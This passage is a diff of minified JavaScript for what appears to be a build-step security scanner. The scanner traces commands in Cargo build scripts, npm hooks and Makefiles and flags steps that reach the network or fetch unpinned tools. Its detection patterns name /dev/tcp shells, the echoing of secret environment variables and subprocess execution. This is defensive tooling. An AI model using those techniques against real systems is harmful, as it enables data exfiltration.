 reduce((most,each)=>stronger(most,each.class),otherwise),text3=main===null?void 0:texts2.get(main);return{step,class:strongest2,hash:hashOf2(texts2),telling:tellingLines(
 evidence2.filter(each=>each.class===strongest2),texts2),text:text3!==void 0&&Buffer.byteLength(text3)<=LONGEST_TEXT?text3:null}}function stronger(one3,other){return CODE_CLASSES.
 indexOf(other)>CODE_CLASSES.indexOf(one3)?other:one3}function hashOf2(texts2){const hash=createHash2("sha256");for(const[path,text3]of[...texts2].sort(([one3],[
 other])=>one3<other?-1:1))hash.update(JSON.stringify([path,text3.length])).update(text3);return hash.digest("hex")}function tellingLines(evidence2,texts2){const found12=new Map;
-for(const{path,offset}of evidence2){if(found12.size>=MOST_LINES2)break;const telling2=lineAt(path,texts2.get(path)??"",offset);found12.set(JSON.stringify([path,
-telling2.line]),telling2)}return[...found12.values()]}function lineAt(path,text3,offset){const start=text3.lastIndexOf(`
+for(const{path,offset}of evidence2){if(found12.size>=MOST_LINES)break;const telling2=lineAt(path,texts2.get(path)??"",offset);found12.set(JSON.stringify([path,telling2.
+line]),telling2)}return[...found12.values()]}function lineAt(path,text3,offset){const start=text3.lastIndexOf(`
 `,offset-1)+1,end=text3.indexOf(`
 `,offset),line=text3.slice(0,start).split(`
 `).length,written7=text3.slice(start,end<0?text3.length:end).trim();return{path,line,text:written7.slice(0,LONGEST_LINE)}}function isMark(token2,text3){return token2?.
@@ -2800,7 +2823,7 @@ text)&&!isPath&&names4.push(token2.text)}return names4}var LONGEST_STATEMENT2=25
 1){if(at2>=tokens.length||tokens[at2]?.kind==="close"||fits4(tokens[at2]))return at2;at2=after(tokens,at2)}return at2}function statementStart(tokens,index){let at2=index-
 1;for(let steps=0;at2>=0;at2-=1,steps+=1){if(steps>LONGEST_STATEMENT2)return;const token2=tokens[at2];if(token2?.kind==="close"){if(token2.text==="}")break;at2=
 token2.partner}else if(isMark(token2,";")||isOpen(token2,"{"))break}return at2+1}var MOST_FOLLOWED=5e5;function bindingsOf(files){const[globals,constants,fields3]=[
-new Map,new Map,new Map],calls=callsIn(files),around2=new Map(files.map(file2=>[file2,functionsAround(file2)])),functionAt=(file2,at2)=>around2.get(file2)?.[at2]??
+new Map,new Map,new Map],calls=callsIn2(files),around2=new Map(files.map(file2=>[file2,functionsAround(file2)])),functionAt=(file2,at2)=>around2.get(file2)?.[at2]??
 -1,locals=new Map;for(const file2 of files){const{tokens}=file2.source,byFunction=new Map;locals.set(file2,byFunction);for(const{name,value}of file2.items.constants)
 for(const into of[globals,constants])add(into,name,{file:file2,stretch:value});for(const[index,item]of file2.items.functions.entries()){if(item.body===null)continue;
 const parameters=new Set(parametersIn(file2,item).flat());add(globals,item.name,{file:file2,stretch:item.body,parameters}),byFunction.set(index,parametersOf(file2,
@@ -2811,7 +2834,7 @@ name??"")?void 0:locals.get(file2)?.get(index)?.get(name)},globals,constants,fie
 const known13=into.get(name);known13===void 0?into.set(name,[code2]):known13.push(code2)}function nearby(bindings){return{...bindings,globals:bindings.constants,
 fields:new Map,localAt(file2,at2,name){const isBeside=({file:other,stretch})=>other===file2&&bindings.functionAt(file2,stretch.from)===bindings.functionAt(file2,
 at2);return bindings.localAt(file2,at2,name)?.filter(isBeside)}}}function functionsAround({source,items}){const around2=new Int32Array(source.tokens.length).fill(
--1);for(const[index,{body}]of items.functions.entries())body!==null&&around2.fill(index,body.from,body.to);return around2}function callsIn(files){const names4=new Set(
+-1);for(const[index,{body}]of items.functions.entries())body!==null&&around2.fill(index,body.from,body.to);return around2}function callsIn2(files){const names4=new Set(
 files.flatMap(({items})=>items.functions.map(({name})=>name))),of2=new Map,handedOn3=new Set;for(const file2 of files){const{tokens}=file2.source;for(const[at2,
 token2]of tokens.entries())if(!(token2.kind!=="word"||!names4.has(token2.text)||isKeyword(tokens[at2-1],"fn")))if(isOpen(tokens[at2+1],"(")){const given2=argumentsAt(
 file2.source,at2+1).map(stretch=>({file:file2,stretch})),known13=of2.get(token2.text);known13===void 0?of2.set(token2.text,[given2]):known13.push(given2)}else isMentioned(
@@ -3376,9 +3399,9 @@ last}}function nameOf(key3){return key3.type==="TOMLBare"?key3.name:key3.value}f
 RangeError)return{message:"A value is too long, or nested too deeply, to be read.",offset:0};if(error instanceof b2)return{message:`${error.message}.`,offset:Math.
 min(error.index,text3.length)};throw error}var PLAIN3='[^"\\\\\\u0000-\\u0008\\u000a-\\u001f\\u007f]*',ENTRY=new RegExp(`^([A-Za-z0-9_-]+|"${PLAIN3}") = (?:"(${PLAIN3}\
 )"|(0|[1-9]\\d{0,8})|\\[(.*))$`),INLINE=new RegExp(` ?"(${PLAIN3})"(, ?(?=")| ?]$)`,"y"),ITEM=new RegExp(`^( +)"(${PLAIN3})",?$`),TABLE=/^\[([A-Za-z0-9_-]+)\]$/,
-TABLES=/^\[\[(?:([A-Za-z0-9_-]+)\.)?([A-Za-z0-9_-]+)\]\]$/,MOST_LINES3=5e5;function tomlOfLines(file2){return new LineReader(file2).read()}var LineReader=class{#path;#lines;#root;#table;#at=0;constructor({
+TABLES=/^\[\[(?:([A-Za-z0-9_-]+)\.)?([A-Za-z0-9_-]+)\]\]$/,MOST_LINES2=5e5;function tomlOfLines(file2){return new LineReader(file2).read()}var LineReader=class{#path;#lines;#root;#table;#at=0;constructor({
 path,text:text3}){this.#path=path,this.#lines=text3.split(`
-`),this.#root={kind:"object",entries:new Map,at:this.#place(1)},this.#table=this.#root}read(){if(this.#lines.length>MOST_LINES3)return null;let[first,last]=[null,
+`),this.#root={kind:"object",entries:new Map,at:this.#place(1)},this.#table=this.#root}read(){if(this.#lines.length>MOST_LINES2)return null;let[first,last]=[null,
 1];for(;this.#at<this.#lines.length;this.#at+=1){const line=this.#lineAt(this.#at);if(!(line===""||isComment2(line))){if(first??=this.#place(1),!this.#line(line))
 return null;last=this.#at+1}}return{...this.#root,at:{...first??this.#root.at,endLine:last}}}#lineAt(index){const line=this.#lines[index]??"";return line.endsWith(
 "\r")&&index+1<this.#lines.length?line.slice(0,-1):line}#line(line){if(line.startsWith("["))return this.#header(line);const[,key3="",text3,digits2,list]=ENTRY.exec(
@@ -3404,11 +3427,11 @@ get(name);if(value===void 0)throw new Unreadable(`There is no anchor &${name} be
 0||levels>MAX_DEPTH/2)throw new Unreadable("Aliases (`*`) repeat more than is read.",offset);return value}#measure(value){const known13=this.#measures.get(value);
 if(known13!==void 0)return known13;const inner=(value.kind==="array"?value.items:membersOf(value)).map(each=>this.#measure(each)),measure={values:inner.reduce((sum,each)=>sum+
 each.values,1),levels:inner.reduce((most,each)=>Math.max(most,each.levels+1),1)};return this.#measures.set(value,measure),measure}};function membersOf(value){return value.
-kind==="object"?[...value.entries.values()].map(member2=>member2.value):[]}var MAX_VALUES3=25e4,SIGNS=`
+kind==="object"?[...value.entries.values()].map(member2=>member2.value):[]}var MAX_VALUES3=25e4,SIGNS2=`
 [{,:?-`;function parseYaml(file2){return compose(file2,LIMITS,"core",null,one)}function parseWorkflow(file2){return compose(file2,LIMITS,"core",new Anchors,one)}
 var LIMITS={values:MAX_VALUES3,depth:MAX_DEPTH};function one(composer){return{ok:!0,value:composer.document(),duplicates:[]}}function parseYamlDocuments(file2,limits){
 return compose(file2,limits,"texts",null,composer=>({ok:!0,documents:composer.documents()}))}function compose(file2,limits,words4,anchors,read11){const place=placesIn(
-file2);try{refuseCrowd(file2.text,SIGNS,limits.values);const events=(0,import_shared_es.Bn)(file2.text,{maxDepth:limits.depth});return read11(new Composer(events,
+file2);try{refuseCrowd(file2.text,SIGNS2,limits.values);const events=(0,import_shared_es.Bn)(file2.text,{maxDepth:limits.depth});return read11(new Composer(events,
 file2.text,place,words4,anchors))}catch(error){const{message,offset}=reasonOf2(error,file2.text);return{ok:!1,at:place(offset,offset),message}}}var Composer=class{#events;#text;#place;#words;#anchors;#next=0;#end=0;constructor(events,text3,place,words4,anchors){
 this.#events=events,this.#text=text3,this.#place=place,this.#words=words4,this.#anchors=anchors}document(){const value=this.#document();if(this.#peek()!==void 0)
 throw new Unreadable("There is more than one document.",this.#end);return value}documents(){const documents=[];for(;this.#peek()!==void 0;)documents.push(this.#document());
@@ -3536,7 +3559,7 @@ feature.at)}};function firstFeatures({features,value,name},{named:named13,allFea
 own)?{value:asked4.value.slice(own.length),at:asked4.at}:asked4)]}function requestedFeatures(config,flags2){const{allFeatures,noDefaultFeatures}=flags2;return{named:[
 ...stringsOf(pick(config,"build","features")),...flags2.features].flatMap(({value,at:at2})=>value.split(/[\s,]+/).filter(each=>each!=="").map(each=>({value:each,
 at:at2}))),allFeatures,noDefaultFeatures}}function builtCode(project){const known13=found2.get(project);if(known13!==void 0)return known13;const code2=builtCrates(
-project).flatMap(built=>codeOf3(built,project.contents));return found2.set(project,code2),code2}var found2=new WeakMap;function builtCrates({location,files,config,
+project).flatMap(built=>codeOf2(built,project.contents));return found2.set(project,code2),code2}var found2=new WeakMap;function builtCrates({location,files,config,
 flags:flags2}){const workspace=cargoWorkspace(location.root,files),crates=new Map(localCrates(workspace,files).map(crate2=>[crate2.manifest.folder,crate2]));if(workspace.
 own===void 0)return[];const enabled=[...crates.values()].some(({dependencies})=>dependencies.some(mayBeOff))?import_shared_aceps.PLATFORMS.map(platform=>enabledFeatures(
 workspace,files,platform,requestedFeatures(config(platform),flags2))):[],asked4=[{folder:workspace.own.folder,at:workspace.own.value.at},...patchesOf(workspace).
@@ -3544,14 +3567,15 @@ flatMap(({source,value:{at:at2}})=>source.kind==="path"&&source.folder!==null?[{
 const crate2=crates.get(folder);if(!(crate2===void 0||built.has(folder))){built.set(folder,{crate:crate2,askedAt:at2});for(const dependency of crate2.dependencies)
 isBuilt(dependency,crate2.manifest,enabled)&&dependency.source.kind==="path"&&asked4.push({folder:dependency.source.folder??"",at:dependency.value.at})}}return[
 ...built.values()]}function mayBeOff({source,isOptional}){return source.kind==="path"&&isOptional}function isBuilt({name,kind,source,isOptional},manifest2,enabled){
-return kind==="dev"||source.kind!=="path"||source.folder===null?!1:!isOptional||enabled.some(each=>each.takes(manifest2,name))}function codeOf3({crate:{manifest:manifest2,
+return kind==="dev"||source.kind!=="path"||source.folder===null?!1:!isOptional||enabled.some(each=>each.takes(manifest2,name))}function codeOf2({crate:{manifest:manifest2,
 isMacro},askedAt:askedAt2},contents){const{folder,value,name}=manifest2,script=buildScriptTarget(value,folder)?.path??null;return[{path:libraryOf(value,folder),
 role:isMacro?"proc-macro":"library"},{path:script,role:"build-script"}].flatMap(({path,role})=>path!==null&&contents.isFile(path)?[{domain:"packages",kind:"fold\
 er-code",crate:name??folder,folder,path,role,askedAt:askedAt2}]:[])}function libraryOf(manifest2,folder){const named13=asString(pick(manifest2,"lib","path"));return named13===
 void 0?inFolder(folder,"src/lib.rs"):joined(folder,named13)}function grantOf({act,class:seen,configures,offset},file2,secrets){return{domain:"steps",rule:configures===
-!0?"build/configuration-written":ruleOf2(seen),act,machine:"builder",by:(0,import_shared_acegpst.code)(file2.path),entry:"",text:lineAt2(file2.text,offset),class:seen,
-secrets,at:placesIn(file2)(offset,offset)}}function ruleOf2(seen){return seen==="reaches"?"build/step-reaches":"build/step-changed"}var LONGEST_LINE2=160;function lineAt2(text3,offset){
-const end=text3.indexOf(`
+!0?"build/configuration-written":ruleOf2(seen),act,machine:"builder",by:(0,import_shared_acegpst.code)(file2.path),entry:"",text:shownOf(act,lineAt2(file2.text,
+offset)),class:seen,secrets,at:placesIn(file2)(offset,offset)}}function ruleOf2(seen){return seen==="reaches"?"build/step-reaches":"build/step-changed"}var LONGEST_LINE2=160;
+function shownOf(act,line){const[opened2,closed]=[/[([{]/g,/[)\]}]/g].map(sign=>line.match(sign)?.length??0);return(opened2??0)>(closed??0)?act.slice(0,LONGEST_LINE2):
+line}function lineAt2(text3,offset){const end=text3.indexOf(`
 `,offset);return text3.slice(text3.lastIndexOf(`
 `,offset-1)+1,end<0?text3.length:end).trim().slice(0,LONGEST_LINE2)}function buildScriptGrants(project,secrets){const{files}=project,scripts2=builtCode(project).
 filter(({role})=>role==="build-script");if(scripts2.length===0)return[];const texts2=textsOf2(files);return scripts2.flatMap(({path,folder})=>{const manifest2=readManifest(
@@ -3679,26 +3703,23 @@ replace(/^.*[\\/]/,"").replace(/\.exe$/,"")}function intoFolder(operands){const 
 return/^(?:g?sed|perl|yq|dasel|sponge)$/.test(programOf(program2))&&(programOf(program2)==="sponge"||flags2.some(flag=>/^-[a-zA-Z0-9]*i|^--in-?place/.test(flag)))}
 var OF_MANAGERS=/^(?:Cargo\.(?:toml|lock)|\.cargo\/config(?:\.toml)?|package-lock\.json|npm-shrinkwrap\.json)$/;function decides(path,app){if(withAncestors(app.
 root).some(folder=>OF_MANAGERS.test(below(folder,path)??"")))return!0;const inside=below(app.root,path);return inside===void 0?!1:isConfigLayer(path,app)||/^(?:capabilities|permissions)(?:\/|$)/.
-test(inside)||path===inFolder(app.root,"build.rs")}var STARTS4=/^(?:.*[\\/])?(?:(?:ba|da|z|k)?sh|pwsh|powershell|cmd|source|\.|call|sudo|exec|env|time|nice|nohup|command|xvfb-run|cross-env|node|bun|tsx|ts-node|python3?|ruby|perl|--)(?:\.exe)?$|^\w+=/i;
-function startsScript(words4,i2){const before3=words4.slice(0,i2).findLast(word2=>word2==="--"||!word2.startsWith("-"));return before3===void 0?i2===0:STARTS4.test(
-before3)}function startedWords(words4){return words4.filter((_3,i2)=>startsScript(words4,i2))}function shown({source,fedBy}){return(fedBy===null?source:`${fedBy}\
- | ${source}`).replace(/\s+/g," ").trim()}function actOf2(ran,{contents}){const[first=""]=ran.words;if(first===""||ran.isPutIn&&PLAIN.test(first))return;const words4=withoutManager(
-ran.words);if(PLAIN.test(programName(words4[0]??""))&&!tellsSecrets(ran))return;const named13=words4.map(word2=>isKnown(word2)&&/[./]/.test(word2)&&pathsIn(word2,
-ran.folders).some(path=>contents.isFile(path))?baseName(word2):word2);return JSON.stringify([named13,ran.fedBy===null?null:ran.fedBy.replace(/\s+/g," ").trim()])}
-function withoutManager(words4){const[manager="",first="",...rest2]=words4,name=programName(manager);if(/^(?:npx|bunx|pnpx)$/.test(name)&&!first.startsWith("-"))
-return[first,...rest2];if(/^(?:npm|pnpm|yarn|bun)$/.test(name)){if(/^(?:exec|x)$/.test(first))return rest2[0]==="--"?rest2.slice(1):rest2;if(/^(?:run|run-script)$/.
-test(first))return rest2;if(packageCall(words4)?.name===first)return[first,...rest2]}return words4}function fetchedName({words:[manager="",...rest2]}){const name=programName(
-manager),isFetching=/^(?:npx|bunx|pnpx)$/.test(name)||name==="npm"&&/^(?:exec|x)$/.test(rest2[0]??""),[asked4]=(name==="npm"?rest2.slice(1):rest2).filter(word2=>!word2.
-startsWith("-"));return isFetching&&asked4!==void 0&&isKnown(asked4)&&!/[/\\]$|^\./.test(asked4)?asked4:void 0}function tellsSecrets({words:[first=""],source,targets:targets3}){
-if(/^\s*(?:set|(?:export|declare|typeset)(?:\s+-[px]+)?)\s*(?:[>|]|$)/.test(source))return!0;const names4=[...source.matchAll(/\$(?:\{|env:)?(\w+)/g)].map(([,name=""])=>name);
-return targets3.length>0&&/^(?:echo|printf)$/.test(first)&&names4.some(holdsKey)}function holdsKey(name){return isSecretName(name)&&!/^(?:GITHUB|GITLAB|AZURE)_|HOME|USER|LOGNAME|APPDATA/.
-test(name)}var FED_BY_FILE=/(?:^|[^<])<(?![<(])/;function classOf5(ran){const code2=inlineCode(ran.words);if(code2!==void 0)return classOfCode(code2,ran.words);
-if(tellsSecrets(ran)||/\/dev\/(?:tcp|udp)\//.test(ran.source)||ran.words.length===1&&FED.test(programName(ran.words[0]??""))&&FED_BY_FILE.test(ran.source))return"\
-reaches";const programs4=[ran.words,...startedWords(ran.words).map(word2=>ran.words.slice(ran.words.indexOf(word2)))];if(/^command -[vV]\b/.test(ran.words.join(
-" ")))return"probe";const seen=programs4.map(words4=>ownCommandClass(words4,ran.fedBy!==null));return seen.includes("reaches")?"reaches":ran.words.some((word2,i2)=>!isKnown(
-word2)&&(i2===0||startedWords(ran.words).includes(word2)))||seen.includes("unknown")?"unknown":"probe"}function classOfCode(code2,words4){const{acts}=ownJs("",code2);
-if(acts.some(act=>act.class==="reaches"))return"reaches";const isReaching2=/\bsubprocess\b|\bos\.(?:system|popen)\b|\bsystem\b|\bexec\b/.test(code2),all=[code2,
-...words4].join(`
+test(inside)||path===inFolder(app.root,"build.rs")}function shown({source,fedBy}){return(fedBy===null?source:`${fedBy} | ${source}`).replace(/\s+/g," ").trim()}
+function actOf2(ran,{contents}){const[first=""]=ran.words;if(first===""||ran.isPutIn&&PLAIN.test(first))return;const words4=withoutManager(ran.words);if(PLAIN.test(
+programName(words4[0]??""))&&!tellsSecrets(ran))return;const named13=words4.map(word2=>isKnown(word2)&&/[./]/.test(word2)&&pathsIn(word2,ran.folders).some(path=>contents.
+isFile(path))?baseName(word2):word2);return JSON.stringify([named13,ran.fedBy===null?null:ran.fedBy.replace(/\s+/g," ").trim()])}function withoutManager(words4){
+const[manager="",first="",...rest2]=words4,name=programName(manager);if(/^(?:npx|bunx|pnpx)$/.test(name)&&!first.startsWith("-"))return[first,...rest2];if(/^(?:npm|pnpm|yarn|bun)$/.
+test(name)){if(/^(?:exec|x)$/.test(first))return rest2[0]==="--"?rest2.slice(1):rest2;if(/^(?:run|run-script)$/.test(first))return rest2;if(packageCall(words4)?.
+name===first)return[first,...rest2]}return words4}function fetchedName({words:[manager="",...rest2]}){const name=programName(manager),isFetching=/^(?:npx|bunx|pnpx)$/.
+test(name)||name==="npm"&&/^(?:exec|x)$/.test(rest2[0]??""),[asked4]=(name==="npm"?rest2.slice(1):rest2).filter(word2=>!word2.startsWith("-"));return isFetching&&
+asked4!==void 0&&isKnown(asked4)&&!/[/\\]$|^\./.test(asked4)?asked4:void 0}function tellsSecrets({words:[first=""],source,targets:targets3}){if(/^\s*(?:set|(?:export|declare|typeset)(?:\s+-[px]+)?)\s*(?:[>|]|$)/.
+test(source))return!0;const names4=[...source.matchAll(/\$(?:\{|env:)?(\w+)/g)].map(([,name=""])=>name);return targets3.length>0&&/^(?:echo|printf)$/.test(first)&&
+names4.some(holdsKey)}function holdsKey(name){return isSecretName(name)&&!/^(?:GITHUB|GITLAB|AZURE)_|HOME|USER|LOGNAME|APPDATA/.test(name)}var FED_BY_FILE=/(?:^|[^<])<(?![<(])/;
+function classOf5(ran){const code2=inlineCode(ran.words);if(code2!==void 0)return classOfCode(code2,ran.words);if(tellsSecrets(ran)||/\/dev\/(?:tcp|udp)\//.test(
+ran.source)||ran.words.length===1&&FED.test(programName(ran.words[0]??""))&&FED_BY_FILE.test(ran.source))return"reaches";const programs4=[ran.words,...startedWords(
+ran.words).map(word2=>ran.words.slice(ran.words.indexOf(word2)))];if(/^command -[vV]\b/.test(ran.words.join(" ")))return"probe";const seen=programs4.map(words4=>ownCommandClass(
+words4,ran.fedBy!==null));return seen.includes("reaches")?"reaches":ran.words.some((word2,i2)=>!isKnown(word2)&&(i2===0||startedWords(ran.words).includes(word2)))||
+seen.includes("unknown")?"unknown":"probe"}function classOfCode(code2,words4){const{acts}=ownJs("",code2);if(acts.some(act=>act.class==="reaches"))return"reache\
+s";const isReaching2=/\bsubprocess\b|\bos\.(?:system|popen)\b|\bsystem\b|\bexec\b/.test(code2),all=[code2,...words4].join(`
 `);return isReaching2||ownLines("",all).length>0||/\w:\/\/(?!localhost)/.test(code2)?"reaches":"unknown"}var TABLES3=[["peerDependencies","peer"],["dependencies",
 "needed"],["optionalDependencies","optional"],["devDependencies","needed"]];function requirementsOf(manifest2,installed){const asked4=new Map;for(const[table2,kind]of TABLES3){
 const dependencies=member(manifest2,table2);if(!(installed&&table2==="devDependencies"||dependencies===void 0)){if(dependencies.kind!=="object"){const text3=JSON.
@@ -3735,16 +3756,16 @@ asked4),asked4}function askedIn(folder,{files}){const file2=files.get(inFolder(f
 keys()]:[]})}function commandGrants({rule,by,entry,secrets,commands:commands2},project){const written7=writtenByHook({rule,commands:commands2},project);return commands2.
 flatMap(ran=>{const writes3=written7.get(ran),act=writes3===void 0?actOf2(ran,project):`writes ${writes3}`;if(act===void 0)return[];const seen=classOf5(ran),at2={
 path:ran.path,line:ran.line,column:1,endLine:ran.line},common3={domain:"steps",machine:"builder",by,entry,text:shown(ran),secrets,at:at2};if(writes3!==void 0)return[
-{...common3,act,rule:"build/configuration-written",class:"reaches"}];const does={...common3,act,rule:ruleOf3(rule,seen),class:seen},fetched2=fetchedBy(ran,project);
-return fetched2===void 0?[does]:[does,{...common3,act:fetched2,rule:ruleOf3(rule,"reaches"),class:"reaches"}]})}function fetchingGrants({rule,entry,secrets,leading=[]},project){
-return leading.flatMap(ran=>{const act=fetchedBy(ran,project);if(act===void 0||OF_TAURI.test(act)||classOf5(ran)==="reaches")return[];const at2={path:ran.path,line:ran.
-line,column:1,endLine:ran.line},[by,text3,seen]=[(0,import_shared_acegpst.code)(ran.path),shown(ran),"reaches"];return[{domain:"steps",machine:"builder",rule:ruleOf3(
-rule,seen),act,by,entry,text:text3,class:seen,secrets,at:at2}]})}var OF_TAURI=/^fetches (?:tauri$|@tauri-apps\/)/;function fetchedBy(ran,project){const name=fetchedName(
-ran);return name===void 0||isHeld(name,ran.folders,project)?void 0:`fetches ${name}`}function ruleOf3(rule,seen){return rule==="build/step-changed"&&seen==="rea\
-ches"?"build/step-reaches":rule}function writtenByHook({rule,commands:commands2},{location}){if(rule!=="build/hook-changed")return new Map;const own=commands2.filter(
-({from})=>from.length===0);return new Map(writesIn(own,location,new Set).map(({ran,path})=>[ran,path]))}function appsAbove(path,apps){const atRoot=byRoot(apps);
-return withAncestors(folderOf(path)).flatMap(folder=>atRoot.get(folder)??[])}var known=new WeakMap;function byRoot(apps){const atRoot=known.get(apps)??Map.groupBy(
-apps,({root})=>root);return known.set(apps,atRoot),atRoot}function byPath(pattern){return path=>pattern.test(path)}function inApp(is){return(path,apps)=>appsAbove(
+{...common3,act,rule:"build/configuration-written",class:"reaches"}];const does={...common3,act,rule:ruleOf3(rule,seen),class:seen},fetched2=unheldName(ran,project);
+return fetched2===void 0?[does]:[does,{...common3,act:`fetches ${fetched2}`,rule:ruleOf3(rule,"reaches"),class:"reaches"}]})}function fetchingGrants({entry,secrets,
+leading=[]},project){return leading.flatMap(ran=>{const name=unheldName(ran,project);if(name===void 0||OF_TAURI.test(name)||classOf5(ran)==="reaches")return[];const at2={
+path:ran.path,line:ran.line,column:1,endLine:ran.line};return[{...{domain:"steps",machine:"job",rule:"build/tool-unpinned",class:"reaches"},act:`${ran.words[0]}\
+ ${name}`,by:(0,import_shared_acegpst.code)(ran.path),entry,text:shown(ran),secrets,at:at2}]})}var OF_TAURI=/^(?:tauri$|@tauri-apps\/)/;function unheldName(ran,project){
+const name=fetchedName(ran);return name===void 0||isHeld(name,ran.folders,project)?void 0:name}function ruleOf3(rule,seen){return rule==="build/step-changed"&&seen===
+"reaches"?"build/step-reaches":rule}function writtenByHook({rule,commands:commands2},{location}){if(rule!=="build/hook-changed")return new Map;const own=commands2.
+filter(({from})=>from.length===0);return new Map(writesIn(own,location,new Set).map(({ran,path})=>[ran,path]))}function appsAbove(path,apps){const atRoot=byRoot(
+apps);return withAncestors(folderOf(path)).flatMap(folder=>atRoot.get(folder)??[])}var known=new WeakMap;function byRoot(apps){const atRoot=known.get(apps)??Map.
+groupBy(apps,({root})=>root);return known.set(apps,atRoot),atRoot}function byPath(pattern){return path=>pattern.test(path)}function inApp(is){return(path,apps)=>appsAbove(
 path,apps).some(app=>is(path,app))}var Cursor=class{text;at=0;constructor(text3){this.text=text3}get isAtEnd(){return this.at>=this.text.length}peek(ahead=0){return this.
 text[this.at+ahead]??""}take(){return this.text[this.at++]??""}startsWith(text3){return this.text.startsWith(text3,this.at)}match(sticky){sticky.lastIndex=this.
 at;const found12=sticky.exec(this.text);if(found12!==null)return this.at=sticky.lastIndex,found12}takeThrough(end){const found12=this.text.indexOf(end,this.at),
@@ -4003,40 +4024,41 @@ function filledIn(text3,variables,reference){return text3.replace(reference,(who
 null)return calledWith(variables.get(call2[1]??""),call2[2]??"")??whole2;const name=given2?.trim()??"";if(/^\d$/.test(name)&&whole2.startsWith("$"))return`$${name}`;
 const value=variables.get(name);return value!==void 0?/[$`]|\{\{/.test(value)?`\${${name}}`:value:whole2.startsWith("{{")?/^[\w-]+$/.test(name)?"":UNKNOWN_WORDS:
 /^\w+$/.test(name)?`\${${name}}`:whole2})}var CALL=/^call\s+([\w-]+)\s*(?:,(.*))?$/s;function calledWith(value,args){const known13=value?.replace(/\$\{?(\d)\}?/g,
-"");if(value===void 0||known13===void 0||/[$`]/.test(known13))return;const places2=value.match(ARGUMENT)?.length??0;if(value.length+places2*args.length>LONGEST_CALL)
+"");if(value===void 0||known13===void 0||/[$`]/.test(known13))return;const places2=value.match(ARGUMENT)?.length??0;if(value.length+places2*args.length>LONGEST_CALL2)
 return;const given2=args.split(",");return value.replace(ARGUMENT,(_3,inBraces,bare2)=>given2[Number(inBraces??bare2)-1]??"")}var ARGUMENT=/\$(?:[({](\d)[)}]|(\d))/g,
-LONGEST_CALL=1e5;function withoutCalls(command2,variables){return command2.replace(/\$[({](call\s[^(){}]*)[)}]/g,(whole2,given2)=>{if(!variables.has(CALL.exec(given2)?.[1]??
-""))return whole2;const{words:words4,length}=heldBy(variables);return length>MOST_HELD?`eval ${UNKNOWN_WORDS}`:`tauri build ${UNKNOWN_WORDS} ${quoted2([given2,...words4])}`})}
-var MOST_HELD=2e4;function heldBy(variables){const known13=held.get(variables);if(known13!==void 0)return known13;const words4=[...variables].flat(),made2={words:words4,
-length:words4.join(" ").length};return held.set(variables,made2),made2}var held=new WeakMap,DEEPEST_REFERENCE=20,LONGEST_VARIABLE=1e4;function resolvedVariables(variables,{
-reference}){let found12=variables;for(let depth=0;depth<DEEPEST_REFERENCE;depth+=1){const before3=found12;if(found12=new Map([...before3].map(([name,text3])=>{const filled3=filledIn(
-text3,before3,reference);return[name,filled3.length>LONGEST_VARIABLE?text3:filled3]})),![...found12].some(([name,text3])=>text3!==before3.get(name)))break}return found12}
-function startedRecipes(ran,files){const call2=recipeCall(ran.words),file2=call2&&fileOf(call2,ran.folders,files);if(call2===void 0||file2===void 0)return[];const variables=new Map(
-[...call2.program==="make"?written(ran):[],...call2.variables]),makers=makersOfRecipes(file2,files,{variables,args:call2.args});return chosen(makers,call2,file2).
-flatMap(({parts:parts2})=>parts2.map(({script,start})=>({script,start:{...start,variables:new Map([...ran.variables,...start.variables])}})))}var NAMES_FILE=/^(?:-f|--file|--makefile|--justfile)$/,
-NAMES_FOLDER2=/^(?:-C|--directory|--working-directory|-d)$/;function recipeCall(all){const at2=all.findIndex(word2=>/^(?:.*\/)?(?:g?make|just)$/.test(word2));if(at2<
-0)return;const program2=all[at2]?.endsWith("just")===!0?"just":"make",words4=all.slice(at2+1),behind2=flag=>words4.find((_3,i2)=>flag.test(words4[i2-1]??"")),given2=words4.
-flatMap(word2=>{const[,name,value]=/^([A-Za-z_]\w*)=(.*)$/s.exec(word2)??[];return name===void 0||value===void 0?[]:[[name,value]]}),isOperand=(word2,i2)=>!/^-|^[A-Za-z_]\w*=/.
-test(word2)&&!NAMES_FILE.test(words4[i2-1]??"")&&!NAMES_FOLDER2.test(words4[i2-1]??""),first=words4.findIndex(isOperand),recipes=program2==="just"?words4.slice(
-first).slice(0,first<0?0:1):words4.filter(isOperand);return{program:program2,recipes,variables:new Map(given2),args:first<0?[]:words4.slice(first+1),file:behind2(
-NAMES_FILE)??null,folder:behind2(NAMES_FOLDER2)??"."}}function chosen(makers,{recipes},{path}){return recipes.length===0?makers.slice(0,1):makers.filter(({key:key3})=>recipes.
-some(recipe=>key3===`${path}#${recipe}`))}function written({variables}){return[...variables].flatMap(([name,values])=>{const[only2]=values;return values.length===
-1&&only2?.length===1&&/^\w+$/.test(name)?[[name,only2[0]??""]]:[]})}var USUAL2={make:["GNUmakefile","makefile","Makefile"],just:["justfile","Justfile",".justfil\
-e"]};function fileOf({program:program2,file:file2,folder},folders,files){const inside=(folders??[""]).flatMap(each=>resolved(each,folder)??[]),usual=inside.flatMap(
-each=>USUAL2[program2].map(name=>inFolder(each,name)));return(file2===null?usual:pathsIn(file2,inside)).flatMap(path=>files.get(path)??[]).find(({path})=>file2!==
-null||isJustfile(path)||isMakefile(path))}var SHELL3=/^(?:.*[\\/])?(?:ba|da|z|k)?sh(?:\.exe)?$/,RUNS_SCRIPTS=/^(?:.*[\\/])?(?:run-s|run-p|npm-run-all2?|run-script-os)$/;
-function commandLineAt(words4,i2){const[word2="",before3=""]=[words4[i2],words4[i2-1]];return/^-[a-zA-Z]*c$/.test(before3)&&words4.slice(0,i2).some(each=>SHELL3.
-test(each))?{text:word2,name:words4[i2+1]??null,args:words4.slice(i2+2)}:{text:words4.slice(0,i2).some(each=>RUNS_SCRIPTS.test(each))?`npm run ${word2}`:word2.replace(
-/^(?:npm|pnpm|yarn|bun):(?=\S)/,"npm run "),name:null,args:[]}}function startedProcess([program2="",...words4]){if(!/^(?:start-process|saps|start)$/i.test(program2))
-return;const behind2=flag=>{const at2=words4.findIndex(word2=>flag.test(word2));return at2<0?void 0:words4[at2+1]},operands=words4.filter((word2,i2)=>!word2.startsWith(
-"-")&&!/^-\w/.test(words4[i2-1]??"")),file2=behind2(/^-(?:f\w*|path)$/i)??operands[0],list=behind2(/^-(?:a\w*)$/i)??operands[1]??"";return file2===void 0?void 0:
-[file2,...list.split(/[\s,]+/).filter(word2=>word2!=="")]}function outputsOf(commands2,folders){const[first,last]=[commands2[0]??[],commands2.at(-1)??[]];return commands2.
